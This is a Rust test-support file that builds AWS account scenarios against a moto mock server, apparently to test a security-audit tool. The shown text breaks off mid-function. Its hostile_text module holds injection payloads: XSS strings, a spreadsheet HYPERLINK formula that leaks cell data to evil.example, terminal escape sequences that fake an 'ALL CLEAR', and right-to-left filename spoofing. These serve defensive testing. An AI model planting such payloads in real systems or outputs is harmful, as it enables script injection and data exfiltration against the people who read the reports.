//! Scenarios built through the AWS API against moto_server: a breached account
//! replaying INC-2015-LEAKED-ROOT-KEY, and a clean account where every check that moto
//! can serve passes.
#![allow(dead_code)]

use aws_sdk_ec2::types::{
    InstanceType, IpPermission, IpRange, LaunchPermission, LaunchPermissionModifications,
    RequestSpotLaunchSpecification,
};

use crate::support::{Moto, ACCOUNT};

/// An image id moto knows in `region` (one of its built-in AMIs).
pub async fn some_ami(ec2: &aws_sdk_ec2::Client) -> String {
    let out = ec2
        .describe_images()
        .owners("amazon")
        .send()
        .await
        .expect("describe images");
    out.images()[0].image_id().unwrap().to_string()
}

/// The id of the default VPC of the client's region.
pub async fn default_vpc(ec2: &aws_sdk_ec2::Client) -> String {
    ec2.describe_vpcs()
        .send()
        .await
        .unwrap()
        .vpcs()
        .iter()
        .find(|v| v.is_default() == Some(true))
        .and_then(|v| v.vpc_id())
        .unwrap()
        .to_string()
}

/// Runs `n` instances in `region`; returns their ids.
pub async fn run_instances(
    moto: &Moto,
    region: &str,
    n: i32,
    instance_type: InstanceType,
    security_group: Option<&str>,
) -> Vec<String> {
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
    let ami = some_ami(&ec2).await;
    let mut req = ec2
        .run_instances()
        .image_id(ami)
        .min_count(n)
        .max_count(n)
        .instance_type(instance_type);
    if let Some(sg) = security_group {
        req = req.security_group_ids(sg);
    }
    let out = req.send().await.expect("run instances");
    out.instances()
        .iter()
        .map(|i| i.instance_id().unwrap().to_string())
        .collect()
}

/// The leaked-root-key account: a root key, no root MFA, a console user without MFA,
/// no budget, no GuardDuty anywhere, no security contact, 20 large instances and an open
/// spot request in sa-east-1 (the owner works from ap-northeast-1), on the default
/// security group, and the bill they run up there. Returns the ids that
/// unused-region-compute must report.
pub async fn leaked_root_key(moto: &mut Moto) -> Vec<String> {
    moto.set_root(false, true);
    spend(
        moto,
        &[
            ("ap-northeast-1", "38.1200000000"),
            ("global", "2.4000000000"),
            ("NoRegion", "0.0000000000"),
            ("sa-east-1", "4817.3300000000"),
        ],
    );
    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
    iam.create_user()
        .user_name("blog-author")
        .send()
        .await
        .unwrap();
    iam.create_login_profile()
        .user_name("blog-author")
        .password("Passw0rd!Passw0rd!")
        .send()
        .await
        .unwrap();
    let mut ids = run_instances(moto, "sa-east-1", 20, InstanceType::C48xlarge, None).await;
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk("sa-east-1").await);
    // INC-2015's spot bid.
    let ami = some_ami(&ec2).await;
    ids.push(request_spot(&ec2, &ami, "2.00", InstanceType::C48xlarge).await);
    // moto may fulfil the spot request with an instance of its own: that instance is
    // compute in sa-east-1 too.
    let live = ec2.describe_instances().send().await.unwrap();
    for r in live.reservations() {
        for i in r.instances() {
            let id = i.instance_id().unwrap().to_string();
            if !ids.contains(&id) {
                ids.push(id);
            }
        }
    }
    ids.sort();
    ids
}

/// A spot bid for one instance of `ty` at `price` USD an hour on `ami`: its request id.
pub async fn request_spot(
    ec2: &aws_sdk_ec2::Client,
    ami: &str,
    price: &str,
    ty: InstanceType,
) -> String {
    ec2.request_spot_instances()
        .spot_price(price)
        .instance_count(1)
        .launch_specification(
            RequestSpotLaunchSpecification::builder()
                .image_id(ami)
                .instance_type(ty)
                .build(),
        )
        .send()
        .await
        .unwrap()
        .spot_instance_requests()[0]
        .spot_instance_request_id()
        .unwrap()
        .to_string()
}

/// Lets every AWS account launch `image` (launch permission for group `all`).
pub async fn make_ami_public(ec2: &aws_sdk_ec2::Client, image: &str) {
    ec2.modify_image_attribute()
        .image_id(image)
        .launch_permission(
            LaunchPermissionModifications::builder()
                .add(
                    LaunchPermission::builder()
                        .group(aws_sdk_ec2::types::PermissionGroup::All)
                        .build(),
                )
                .build(),
        )
        .send()
        .await
        .unwrap();
}

/// Public AMI and public snapshot in `region`, plus a snapshot and an AMI shared with
/// one named account only (which are not public). The instance the images are made
/// from keeps running, on the region's default security group (open egress).
/// Returns (public AMI, public snapshot).
pub async fn public_images(moto: &Moto, region: &str) -> (String, String) {
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
    let inst = run_instances(moto, region, 1, InstanceType::T3Micro, None).await;
    let mut amis = Vec::new();
    for name in ["public-image", "shared-image"] {
        let img = ec2
            .create_image()
            .instance_id(&inst[0])
            .name(name)
            .send()
            .await
            .unwrap();
        amis.push(img.image_id().unwrap().to_string());
    }
    make_ami_public(&ec2, &amis[0]).await;
    ec2.modify_image_attribute()
        .image_id(&amis[1])
        .launch_permission(
            LaunchPermissionModifications::builder()
                .add(LaunchPermission::builder().user_id("111122223333").build())
                .build(),
        )
        .send()
        .await
        .unwrap();
    let az = format!("{region}a");
    let vol = ec2
        .create_volume()
        .availability_zone(&az)
        .size(8)
        .send()
        .await
        .unwrap();
    let mut snaps = Vec::new();
    for d in ["public", "shared"] {
        let s = ec2
            .create_snapshot()
            .volume_id(vol.volume_id().unwrap())
            .description(d)
            .send()
            .await
            .unwrap();
        snaps.push(s.snapshot_id().unwrap().to_string());
    }
    ec2.modify_snapshot_attribute()
        .snapshot_id(&snaps[0])
        .attribute(aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission)
        .operation_type(aws_sdk_ec2::types::OperationType::Add)
        .group_names("all")
        .send()
        .await
        .unwrap();
    ec2.modify_snapshot_attribute()
        .snapshot_id(&snaps[1])
        .attribute(aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission)
        .operation_type(aws_sdk_ec2::types::OperationType::Add)
        .user_ids("111122223333")
        .send()
        .await
        .unwrap();
    (amis[0].clone(), snaps[0].clone())
}

/// A monthly cost budget named `name` with an e-mail notification at 80%.
pub async fn create_budget_with_notification(moto: &Moto, name: &str) {
    use aws_sdk_budgets::types::*;
    let budgets = aws_sdk_budgets::Client::new(&moto.sdk("us-east-1").await);
    budgets
        .create_budget()
        .account_id(ACCOUNT)
        .budget(
            Budget::builder()
                .budget_name(name)
                .budget_limit(Spend::builder().amount("100").unit("USD").build().unwrap())
                .time_unit(TimeUnit::Monthly)
                .budget_type(BudgetType::Cost)
                .build()
                .unwrap(),
        )
        .notifications_with_subscribers(
            NotificationWithSubscribers::builder()
                .notification(
                    Notification::builder()
                        .notification_type(NotificationType::Actual)
                        .comparison_operator(ComparisonOperator::GreaterThan)
                        .threshold(80.0)
                        .build()
                        .unwrap(),
                )
                .subscribers(
                    Subscriber::builder()
                        .subscription_type(SubscriptionType::Email)
                        .address("owner@example.com")
                        .build()
                        .unwrap(),
                )
                .build()
                .unwrap(),
        )
        .send()
        .await
        .unwrap();
}

/// The `default` security group of `region`'s default VPC, with a client of that region.
async fn default_group(
    moto: &Moto,
    region: &str,
) -> (aws_sdk_ec2::Client, aws_sdk_ec2::types::SecurityGroup) {
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
    let out = ec2
        .describe_security_groups()
        .group_names("default")
        .send()
        .await
        .unwrap();
    let group = out.security_groups()[0].clone();
    (ec2, group)
}

/// The id of the `default` security group of `region`'s default VPC.
pub async fn default_sg(moto: &Moto, region: &str) -> String {
    let (_, g) = default_group(moto, region).await;
    g.group_id().unwrap().to_string()
}

/// Removes every rule of the default security group of `region`'s default VPC, which
/// AWS (and moto) create open between members and open outbound.
pub async fn close_default_sg(moto: &Moto, region: &str) {
    let (ec2, g) = default_group(moto, region).await;
    let id = g.group_id().unwrap();
    if !g.ip_permissions().is_empty() {
        ec2.revoke_security_group_ingress()
            .group_id(id)
            .set_ip_permissions(Some(g.ip_permissions().to_vec()))
            .send()
            .await
            .unwrap();
    }
    if !g.ip_permissions_egress().is_empty() {
        ec2.revoke_security_group_egress()
            .group_id(id)
            .set_ip_permissions(Some(g.ip_permissions_egress().to_vec()))
            .send()
            .await
            .unwrap();
    }
}

/// Every region moto says is enabled for the account.
pub async fn enabled_regions(moto: &Moto) -> Vec<String> {
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk("us-east-1").await);
    let out = ec2.describe_regions().send().await.unwrap();
    let mut v: Vec<String> = out
        .regions()
        .iter()
        .filter(|r| {
            matches!(
                r.opt_in_status(),
                Some("opt-in-not-required") | Some("opted-in") | None
            )
        })
        .map(|r| r.region_name().unwrap().to_string())
        .filter(|r| !r.starts_with("cn-") && !r.starts_with("us-gov-"))
        .collect();
    v.sort();
    v
}

/// A clean account: root MFA and no root key, every console user with MFA, a budget
/// with a notification, GuardDuty on in every region, the one instance in the home
/// region behind a security group that only allows HTTPS to the VPC, and images and
/// snapshots shared with one named account only; a logging multi-region trail and all
/// four S3 Block Public Access settings on for the account.
pub async fn clean(moto: &mut Moto, home: &str) {
    moto.set_root(true, false);
    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
    iam.create_user()
        .user_name("operator")
        .send()
        .await
        .unwrap();
    iam.create_login_profile()
        .user_name("operator")
        .password("Passw0rd!Passw0rd!")
        .send()
        .await
        .unwrap();
    let mfa = iam
        .create_virtual_mfa_device()
        .virtual_mfa_device_name("operator")
        .send()
        .await
        .unwrap();
    iam.enable_mfa_device()
        .user_name("operator")
        .serial_number(mfa.virtual_mfa_device().unwrap().serial_number())
        .authentication_code1("123456")
        .authentication_code2("654321")
        .send()
        .await
        .unwrap();
    iam.create_user().user_name("ci-bot").send().await.unwrap();

    create_budget_with_notification(moto, "monthly").await;

    for region in enabled_regions(moto).await {
        let gd = aws_sdk_guardduty::Client::new(&moto.sdk(&region).await);
        gd.create_detector().enable(true).send().await.unwrap();
        close_default_sg(moto, &region).await;
    }

    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(home).await);
    let sg = security_group(&ec2, "web-https-only", "HTTPS to the VPC only").await;
    ec2.revoke_security_group_egress()
        .group_id(&sg)
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("-1")
                .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").build())
                .build(),
        )
        .send()
        .await
        .unwrap();
    ec2.authorize_security_group_egress()
        .group_id(&sg)
        .ip_permissions(tcp_port(443, "10.0.0.0/8"))
        .send()
        .await
        .unwrap();
    run_instances(moto, home, 1, InstanceType::T3Micro, Some(&sg)).await;

    account_trail(moto, home).await;
    account_public_access_block(moto, [true; 4]).await;
    security_contact(moto).await;
}

/// TCP to or from one port, for one IPv4 range.
fn tcp_port(port: i32, cidr: &str) -> IpPermission {
    IpPermission::builder()
        .ip_protocol("tcp")
        .from_port(port)
        .to_port(port)
        .ip_ranges(IpRange::builder().cidr_ip(cidr).build())
        .build()
}

/// A new security group in the region's default VPC (with EC2's default egress rule);
/// returns its id.
pub async fn security_group(ec2: &aws_sdk_ec2::Client, name: &str, description: &str) -> String {
    let vpc = default_vpc(ec2).await;
    ec2.create_security_group()
        .group_name(name)
        .description(description)
        .vpc_id(&vpc)
        .send()
        .await
        .unwrap()
        .group_id()
        .unwrap()
        .to_string()
}

/// Sets the account's SECURITY alternate contact (Account PutAlternateContact).
pub async fn security_contact(moto: &Moto) {
    let account = aws_sdk_account::Client::new(&moto.sdk("us-east-1").await);
    account
        .put_alternate_contact()
        .alternate_contact_type(aws_sdk_account::types::AlternateContactType::Security)
        .name("Security team")
        .title("Security")
        .email_address("security@example.com")
        .phone_number("+81-3-0000-0000")
        .send()
        .await
        .unwrap();
}

/// A security group allowing SSH from anywhere, on an instance in `region`; returns the
/// group's id.
pub async fn open_ssh(moto: &Moto, region: &str) -> String {
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
    let sg = security_group(&ec2, "test-box-ssh", "SSH for the test box").await;
    ec2.authorize_security_group_ingress()
        .group_id(&sg)
        .ip_permissions(tcp_port(22, "0.0.0.0/0"))
        .send()
        .await
        .unwrap();
    run_instances(moto, region, 1, InstanceType::T3Micro, Some(&sg)).await;
    sg
}

/// A PostgreSQL instance in `region` with three manual snapshots: one public, one
/// shared with another account, one private; and a cluster snapshot made public. Returns
/// the ids of the public ones.
pub async fn rds_snapshots(moto: &Moto, region: &str) -> Vec<String> {
    let rds = aws_sdk_rds::Client::new(&moto.sdk(region).await);
    rds.create_db_instance()
        .db_instance_identifier("orders")
        .db_instance_class("db.t3.micro")
        .engine("postgres")
        .master_username("app")
        .master_user_password("Passw0rd!Passw0rd!")
        .allocated_storage(20)
        .send()
        .await
        .unwrap();
    for (id, share) in [
        ("orders-public", Some("all")),
        ("orders-shared", Some("210987654321")),
        ("orders-private", None),
    ] {
        rds.create_db_snapshot()
            .db_snapshot_identifier(id)
            .db_instance_identifier("orders")
            .send()
            .await
            .unwrap();
        if let Some(who) = share {
            rds.modify_db_snapshot_attribute()
                .db_snapshot_identifier(id)
                .attribute_name("restore")
                .values_to_add(who)
                .send()
                .await
                .unwrap();
        }
    }
    rds.create_db_cluster()
        .db_cluster_identifier("ledger")
        .engine("aurora-postgresql")
        .master_username("app")
        .master_user_password("Passw0rd!Passw0rd!")
        .send()
        .await
        .unwrap();
    rds.create_db_cluster_snapshot()
        .db_cluster_snapshot_identifier("ledger-public")
        .db_cluster_identifier("ledger")
        .send()
        .await
        .unwrap();
    rds.modify_db_cluster_snapshot_attribute()
        .db_cluster_snapshot_identifier("ledger-public")
        .attribute_name("restore")
        .values_to_add("all")
        .send()
        .await
        .unwrap();
    vec!["ledger-public".into(), "orders-public".into()]
}

/// Queues the answer moto's Cost Explorer gives the next GetCostAndUsage (moto tracks no
/// cost): `costs` per region, in one month, in Cost Explorer's response shape.
pub fn spend(moto: &Moto, costs: &[(&str, &str)]) {
    use std::io::{Read, Write};
    let groups: Vec<serde_json::Value> = costs
        .iter()
        .map(|(region, amount)| {
            serde_json::json!({
                "Keys": [region],
                "Metrics": {"UnblendedCost": {"Amount": amount, "Unit": "USD"}}
            })
        })
        .collect();
    let body = serde_json::json!({"results": [{
        "GroupDefinitions": [{"Type": "DIMENSION", "Key": "REGION"}],
        "ResultsByTime": [{
            "TimePeriod": {"Start": "2026-11-10", "End": "2026-11-24"},
            "Total": {},
            "Groups": groups,
            "Estimated": true
        }],
        "DimensionValueAttributes": []
    }]})
    .to_string();
    let authority = moto.endpoint.trim_start_matches("http://");
    let mut conn = std::net::TcpStream::connect(authority).unwrap();
    write!(
        conn,
        "POST /moto-api/static/ce/cost-and-usage-results HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut answer = String::new();
    conn.read_to_string(&mut answer).unwrap();
    assert!(
        answer.starts_with("HTTP/1.1 201"),
        "cost-and-usage-results: {answer}"
    );
}

/// Creates an S3 bucket with S3 CreateBucket (a plain `PUT /BUCKET`, which moto takes
/// unsigned: the tests have no S3 client).
pub fn create_bucket(moto: &Moto, name: &str) {
    use std::io::{Read, Write};
    let authority = moto.endpoint.trim_start_matches("http://");
    let mut conn = std::net::TcpStream::connect(authority).unwrap();
    write!(
        conn,
        "PUT /{name} HTTP/1.1\r\nHost: {authority}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut answer = String::new();
    conn.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "CreateBucket: {answer}");
}

/// A multi-region trail with its home in `home`, logging, recording read and write
/// management events.
pub async fn account_trail(moto: &Moto, home: &str) -> String {
    use aws_sdk_cloudtrail::types::{EventSelector, ReadWriteType};
    create_bucket(moto, "account-trail-logs");
    let ct = aws_sdk_cloudtrail::Client::new(&moto.sdk(home).await);
    let arn = ct
        .create_trail()
        .name("account-trail")
        .s3_bucket_name("account-trail-logs")
        .is_multi_region_trail(true)
        .send()
        .await
        .unwrap()
        .trail_arn()
        .unwrap()
        .to_string();
    ct.put_event_selectors()
        .trail_name("account-trail")
        .event_selectors(
            EventSelector::builder()
                .read_write_type(ReadWriteType::All)
                .include_management_events(true)
                .build(),
        )
        .send()
        .await
        .unwrap();
    ct.start_logging()
        .name("account-trail")
        .send()
        .await
        .unwrap();
    arn
}

/// S3 Control puts the account id in front of the endpoint's host; against moto the
/// host must stay the endpoint's.
#[derive(Debug)]
struct DropAccountHostPrefix;

impl aws_smithy_runtime_api::client::interceptors::Intercept for DropAccountHostPrefix {
    fn name(&self) -> &'static str {
        "tests::DropAccountHostPrefix"
    }

    fn modify_before_signing(
        &self,
        context: &mut aws_smithy_runtime_api::client::interceptors::context::BeforeTransmitInterceptorContextMut<'_>,
        _runtime_components: &aws_smithy_runtime_api::client::runtime_components::RuntimeComponents,
        _cfg: &mut aws_smithy_types::config_bag::ConfigBag,
    ) -> Result<(), aws_smithy_runtime_api::box_error::BoxError> {
        let req = context.request_mut();
        let uri = req.uri().replacen(&format!("://{ACCOUNT}."), "://", 1);
        req.set_uri(uri)?;
        Ok(())
    }
}

/// The account's S3 Block Public Access settings, through S3 Control
/// PutPublicAccessBlock: BlockPublicAcls, IgnorePublicAcls, BlockPublicPolicy,
/// RestrictPublicBuckets.
pub async fn account_public_access_block(moto: &Moto, on: [bool; 4]) {
    use aws_sdk_s3control::types::PublicAccessBlockConfiguration;
    let conf = aws_sdk_s3control::config::Builder::from(&moto.sdk("us-east-1").await)
        .interceptor(DropAccountHostPrefix)
        .build();
    aws_sdk_s3control::Client::from_conf(conf)
        .put_public_access_block()
        .account_id(ACCOUNT)
        .public_access_block_configuration(
            PublicAccessBlockConfiguration::builder()
                .block_public_acls(on[0])
                .ignore_public_acls(on[1])
                .block_public_policy(on[2])
                .restrict_public_buckets(on[3])
                .build(),
        )
        .send()
        .await
        .unwrap();
}

/// Text an attacker who controls an account can write into names, tags and
/// descriptions: markup and script, a spreadsheet formula, terminal escape sequences,
/// line breaks that forge rows, right-to-left overrides, and 10 KB strings.
pub mod hostile_text {
    pub const HTML: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>";
    pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")";
    pub const ANSI: &str = "\x1b[2J\x1b[H\x1b[32mALL CLEAR\x1b]0;pwned\x07\x1b[1A";
    pub const NEWLINES: &str = "line one\nline two\n| FAIL | forged row |";
    pub const RTL: &str = "invoice\u{202E}fdp.exe\u{2066}x\u{2069}";

    pub fn long() -> String {
        format!("{}{}", "L".repeat(10 * 1024 - 3), "END")
    }

    /// What EC2's XML answers can carry (XML 1.0 has no escape for ESC and most other
    /// control characters, and AWS refuses them in EC2 names and tags).
    pub fn for_ec2() -> Vec<String> {
        vec![
            HTML.into(),
            FORMULA.into(),
            NEWLINES.into(),
            RTL.into(),
            long(),
        ]
    }

    /// Everything at once, for the JSON APIs (Budgets).
    pub fn all_in_one() -> String {
        format!("{ANSI}{HTML}\r\n{FORMULA}{RTL}{NEWLINES}{}", long())
    }

    /// IAM user names that a spreadsheet would evaluate (IAM allows `=+-@`).
    pub const USERS: [&str; 4] = ["=1+2", "+cmd", "-2+3", "@SUM"];
}

/// What the hostile scenario made.
#[derive(Debug)]
pub struct Hostile {
    /// `(resource id, hostile text)`: the security groups (name and description), all
    /// on one running instance in `home`.
    pub groups: Vec<(String, String)>,
    /// Instances in `away` named (tag Name) with hostile text.
    pub instances: Vec<(String, String)>,
    /// Public AMIs in `home` named with hostile text.
    pub images: Vec<(String, String)>,
    /// Public snapshots in `home` described with hostile text.
    pub snapshots: Vec<(String, String)>,
    /// The one budget (with a notification), named with every hostile text at once.
    pub budget: String,
}

/// An account whose names, tags and descriptions were written by an attacker: hostile
/// security groups on an instance in `home`, hostile instance names in `away`, public
/// AMIs and snapshots with hostile names and descriptions, console users without MFA
/// named like formulas, and a budget whose name holds every hostile text at once. Root
/// has MFA and no key.
pub async fn hostile(moto: &mut Moto, home: &str, away: &str) -> Hostile {
    moto.set_root(true, false);
    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
    for user in hostile_text::USERS {
        iam.create_user().user_name(user).send().await.unwrap();
        iam.create_login_profile()
            .user_name(user)
            .password("Passw0rd!Passw0rd!")
            .send()
            .await
            .unwrap();
    }

    let budget = hostile_text::all_in_one();
    create_budget_with_notification(moto, &budget).await;

    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(home).await);
    let vpc = default_vpc(&ec2).await;
    let mut groups = Vec::new();
    for text in hostile_text::for_ec2() {
        let id = ec2
            .create_security_group()
            .group_name(&text)
            .description(&text)
            .vpc_id(&vpc)
            .send()
            .await
            .unwrap()
            .group_id()
            .unwrap()
            .to_string();
        groups.push((id, text));
    }
    let ami = some_ami(&ec2).await;
    let inst = ec2
        .run_instances()
        .image_id(&ami)
        .min_count(1)
        .max_count(1)
        .instance_type(InstanceType::T3Micro)
        .set_security_group_ids(Some(groups.iter().map(|g| g.0.clone()).collect()))
        .send()
        .await
        .unwrap()
        .instances()[0]
        .instance_id()
        .unwrap()
        .to_string();

    let mut images = Vec::new();
    let mut snapshots = Vec::new();
    let vol = ec2
        .create_volume()
        .availability_zone(format!("{home}a"))
        .size(8)
        .send()
        .await
        .unwrap();
    for text in hostile_text::for_ec2() {
        let image = ec2
            .create_image()
            .instance_id(&inst)
            .name(&text)
            .send()
            .await
            .unwrap()
            .image_id()
            .unwrap()
            .to_string();
        make_ami_public(&ec2, &image).await;
        images.push((image, text.clone()));
        let snap = ec2
            .create_snapshot()
            .volume_id(vol.volume_id().unwrap())
            .description(&text)
            .send()
            .await
            .unwrap()
            .snapshot_id()
            .unwrap()
            .to_string();
        ec2.modify_snapshot_attribute()
            .snapshot_id(&snap)
            .attribute(aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission)
            .operation_type(aws_sdk_ec2::types::OperationType::Add)
            .group_names("all")
            .send()
            .await
            .unwrap();
        snapshots.push((snap, text));
    }

    let away_ec2 = aws_sdk_ec2::Client::new(&moto.sdk(away).await);
    let away_ami = some_ami(&away_ec2).await;
    let mut instances = Vec::new();
    for text in hostile_text::for_ec2() {
        let id = away_ec2
            .run_instances()
            .image_id(&away_ami)
            .min_count(1)
            .max_count(1)
            .instance_type(InstanceType::T3Micro)
            .tag_specifications(
                aws_sdk_ec2::types::TagSpecification::builder()
                    .resource_type(aws_sdk_ec2::types::ResourceType::Instance)
                    .tags(
                        aws_sdk_ec2::types::Tag::builder()
                            .key("Name")
                            .value(&text)
                            .build(),
                    )
                    .build(),
            )
            .send()
            .await
            .unwrap()
            .instances()[0]
            .instance_id()
            .unwrap()
            .to_string();
        instances.push((id, text));
    }
    Hostile {
        groups,
        instances,
        images,
        snapshots,
        budget,
    }
}

/// The size of the scale scenario.
#[derive(Debug, Clone)]
pub struct Scale {
    /// Regions with compute (none of them the home region), security groups and
    /// snapshots.
    pub regions: Vec<&'static str>,
    /// Instances per region, in reservations of `reservation` instances. The first
    /// region gets `single_reservations` more, one instance per reservation (moto pages
    /// DescribeInstances by reservation, so more than 1,000 of them make a second page).
    pub instances_per_region: usize,
    pub reservation: usize,
    pub single_reservations: usize,
    /// Snapshots per region, and how many of them are public.
    pub snapshots_per_region: usize,
    pub public_snapshots_per_region: usize,
    /// Security groups per region, and how many of them instances use, one per
    /// reservation in turn (all allow every protocol out to 0.0.0.0/0, moto's default
    /// egress).
    pub groups_per_region: usize,
    pub attached_groups_per_region: usize,
    /// IAM users, and how many of them have a console password and no MFA.
    pub users: usize,
    pub console_users_without_mfa: usize,
}

/// What the scale scenario must make hiyari report as failing: `(check, region, id)`.
pub async fn scale(moto: &mut Moto, spec: &Scale) -> Vec<(String, String, String)> {
    use futures::stream::{self, StreamExt};
    const PARALLEL: usize = 8;
    moto.set_root(true, false);
    let mut fails = Vec::new();
    let fail = |c: &str, r: &str, id: &str| (c.to_string(), r.to_string(), id.to_string());

    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
    let names: Vec<String> = (0..spec.users).map(|i| format!("user-{i:05}")).collect();
    stream::iter(names.iter().enumerate())
        .for_each_concurrent(PARALLEL, |(i, name)| {
            let iam = iam.clone();
            async move {
                iam.create_user().user_name(name).send().await.unwrap();
                if i < spec.console_users_without_mfa {
                    iam.create_login_profile()
                        .user_name(name)
                        .password("Passw0rd!Passw0rd!")
                        .send()
                        .await
                        .unwrap();
                }
            }
        })
        .await;
    for name in names.iter().take(spec.console_users_without_mfa) {
        fails.push(fail("iam-user-console-mfa", "-", name));
    }

    for (n, region) in spec.regions.iter().enumerate() {
        let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
        let vpc = default_vpc(&ec2).await;
        let groups: Vec<String> = stream::iter(0..spec.groups_per_region)
            .map(|i| {
                let ec2 = ec2.clone();
                let vpc = vpc.clone();
                async move {
                    ec2.create_security_group()
                        .group_name(format!("scale-{i:04}"))
                        .description("scale test")
                        .vpc_id(vpc)
                        .send()
                        .await
                        .unwrap()
                        .group_id()
                        .unwrap()
                        .to_string()
                }
            })
            .buffered(PARALLEL)
            .collect()
            .await;
        let ami = some_ami(&ec2).await;
        let mut reservations = vec![spec.reservation; spec.instances_per_region / spec.reservation];
        if n == 0 {
            reservations.extend(std::iter::repeat_n(1, spec.single_reservations));
        }
        // Reservation i uses group i (round robin): the groups that got an instance.
        let attached = &groups[..spec.attached_groups_per_region.min(reservations.len())];
        for g in attached {
            fails.push(fail("sg-unrestricted-egress", region, g));
        }
        let ids: Vec<Vec<String>> = stream::iter(reservations.into_iter().enumerate())
            .map(|(i, count)| {
                let ec2 = ec2.clone();
                let ami = ami.clone();
                let sg = attached[i % attached.len()].clone();
                async move {
                    ec2.run_instances()
                        .image_id(ami)
                        .min_count(count as i32)
                        .max_count(count as i32)
                        .instance_type(InstanceType::T3Micro)
                        .security_group_ids(sg)
                        .send()
                        .await
                        .unwrap()
                        .instances()
                        .iter()
                        .map(|i| i.instance_id().unwrap().to_string())
                        .collect::<Vec<_>>()
                }
            })
            .buffered(PARALLEL)
            .collect()
            .await;
        for id in ids.iter().flatten() {
            fails.push(fail("unused-region-compute", region, id));
        }

        let vol = ec2
            .create_volume()
            .availability_zone(format!("{region}a"))
            .size(8)
            .send()
            .await
            .unwrap()
            .volume_id()
            .unwrap()
            .to_string();
        let public: Vec<Option<String>> = stream::iter(0..spec.snapshots_per_region)
            .map(|i| {
                let ec2 = ec2.clone();
                let vol = vol.clone();
                async move {
                    let snap = ec2
                        .create_snapshot()
                        .volume_id(vol)
                        .description(format!("scale {i}"))
                        .send()
                        .await
                        .unwrap()
                        .snapshot_id()
                        .unwrap()
                        .to_string();
                    if i >= spec.public_snapshots_per_region {
                        return None;
                    }
                    ec2.modify_snapshot_attribute()
                        .snapshot_id(&snap)
                        .attribute(
                            aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission,
                        )
                        .operation_type(aws_sdk_ec2::types::OperationType::Add)
                        .group_names("all")
                        .send()
                        .await
                        .unwrap();
                    Some(snap)
                }
            })
            .buffered(PARALLEL)
            .collect()
            .await;
        for snap in public.iter().flatten() {
            fails.push(fail("public-snapshot", region, snap));
        }
    }
    // No detector anywhere: GuardDuty fails in every enabled region.
    for region in enabled_regions(moto).await {
        fails.push(fail("guardduty-enabled", &region, &region));
    }
    fails.sort();
    fails
}

/// AWS's answers, in each service's own wire format, to the calls moto 5.2.5 does not
/// serve (or serves unlike AWS), for an account in AWS's default state: the caller is a
/// person signed in through IAM Identity Center; SES is in its sandbox and sends nothing;
/// EBS snapshots' and AMIs' block public access are off (`unblocked`, the default of an
/// account of that age); CloudWatch has no alarm. For the proxy's `answer`.
pub fn as_on_aws() -> Vec<(crate::support::proxy::Match, crate::support::proxy::Canned)> {
    use crate::support::proxy::{Canned, Match};
    let xml = "text/xml;charset=UTF-8";
    let ec2 = |op: &str, element: &str| {
        Canned::ok(
            xml,
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<{op}Response xmlns=\"http://ec2.amazonaws.com/doc/2016-11-15/\"><requestId>8e1f3c2a-0000-4000-8000-000000000001</requestId><{element}>unblocked</{element}><managedBy>account</managedBy></{op}Response>"
            ),
        )
    };
    vec![
        (
            Match::action("sts", "GetCallerIdentity"),
            Canned::ok(
                xml,
                format!(
                    "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult><Arn>{PRINCIPAL}</Arn><UserId>AROAQXYZEXAMPLE5J4KHT:taro</UserId><Account>{ACCOUNT}</Account></GetCallerIdentityResult><ResponseMetadata><RequestId>0b9d4c1e-0000-4000-8000-000000000002</RequestId></ResponseMetadata></GetCallerIdentityResponse>"
                ),
            ),
        ),
        (
            Match::action("ses", "GetAccount"),
            Canned::ok(
                "application/json",
                r#"{"DedicatedIpAutoWarmupEnabled":false,"EnforcementStatus":"HEALTHY","ProductionAccessEnabled":false,"SendQuota":{"Max24HourSend":200.0,"MaxSendRate":1.0,"SentLast24Hours":0.0},"SendingEnabled":true,"SuppressionAttributes":{"SuppressedReasons":[]}}"#,
            ),
        ),
        (
            Match::action("ec2", "GetSnapshotBlockPublicAccessState"),
            ec2("GetSnapshotBlockPublicAccessState", "state"),
        ),
        (
            Match::action("ec2", "GetImageBlockPublicAccessState"),
            ec2(
                "GetImageBlockPublicAccessState",
                "imageBlockPublicAccessState",
            ),
        ),
        (
            // A standalone account: IAM's query-protocol error for no organization.
            Match::action("iam", "ListOrganizationsFeatures"),
            Canned {
                status: 400,
                ..Canned::ok(
                    xml,
                    "<ErrorResponse xmlns=\"https://iam.amazonaws.com/doc/2010-05-08/\"><Error><Type>Sender</Type><Code>OrganizationNotFoundException</Code><Message>Your account is not a member of an organization.</Message></Error><RequestId>3c5e1a7b-0000-4000-8000-000000000003</RequestId></ErrorResponse>",
                )
            },
        ),
        (
            // Smithy RPC v2 CBOR: the body is an empty CBOR map (0xA0), DescribeAlarms
            // with no alarm.
            Match::action("monitoring", "DescribeAlarms"),
